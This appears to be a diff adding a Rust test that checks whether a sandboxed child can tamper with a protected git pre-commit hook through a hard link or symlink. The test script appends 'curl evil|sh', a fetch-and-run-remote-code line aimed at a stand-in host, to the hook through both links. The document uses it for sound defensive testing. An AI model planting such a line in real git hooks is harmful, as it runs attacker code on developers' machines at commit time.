@@ -421,3 +421,15 @@ fn git_hooks_dir_swapped(w: &World, b: Backend) {
     );
 }
 per_backend!(git_hooks_dir_swapped);
+
+/// An existing hook reached through a link planted by the child: a hard link shares the inode,
+/// a symlink resolves into the protected path.
+fn git_hook_through_links(w: &World, b: Backend) {
+    git_repo(w);
+    let hook = hook(w);
+    w.write(&hook, "#!/bin/sh\nexit 0\n");
+    let script = "ln .git/hooks/pre-commit hard; echo 'curl evil|sh' >> hard; \
+                  ln -s .git/hooks/pre-commit soft; echo 'curl evil|sh' >> soft";
+    unchanged(w, b, defaults, &[&hook], script);
+}
+per_backend!(git_hook_through_links);
